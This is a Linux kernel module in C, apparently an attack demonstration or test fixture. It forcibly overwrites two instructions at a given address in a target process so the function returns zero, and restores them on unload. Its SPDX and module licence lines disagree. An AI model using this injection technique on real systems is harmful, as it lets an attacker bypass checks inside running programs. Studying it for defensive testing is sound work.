// SPDX-License-Identifier: Apache-2.0
/*
 * Code injected into process pid= at= an address of its own code, as /proc/PID/mem and ptrace would
 * do it where they are allowed: the process gets a page of its own with other instructions.
 */
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>

#include "attack.h"

static int pid;
module_param(pid, int, 0444);
static unsigned long at;
module_param(at, ulong, 0444);

static struct task_struct *victim;
static u32 before[2];

static int exchange(u32 *words, int n, unsigned int flags)
{
    return access_process_vm(victim, at, words, n, flags | FOLL_FORCE) == n ? 0 : -EFAULT;
}

static int __init mount(void)
{
    u32 code[2] = {0xd2800000, 0xd65f03c0}; /* mov x0, #0; ret */
    struct pid *number = find_get_pid(pid);
    int err;

    victim = get_pid_task(number, PIDTYPE_PID);
    put_pid(number);
    if (victim == NULL)
        return -ENOENT;
    err = exchange(before, sizeof(before), 0);
    if (err == 0)
        err = exchange(code, sizeof(code), FOLL_WRITE);
    if (err != 0)
        put_task_struct(victim);
    return err;
}

static void __exit undo(void)
{
    exchange(before, sizeof(before), FOLL_WRITE);
    put_task_struct(victim);
}

module_init(mount);
module_exit(undo);
MODULE_DESCRIPTION("code injected into a process");
MODULE_LICENSE("GPL");
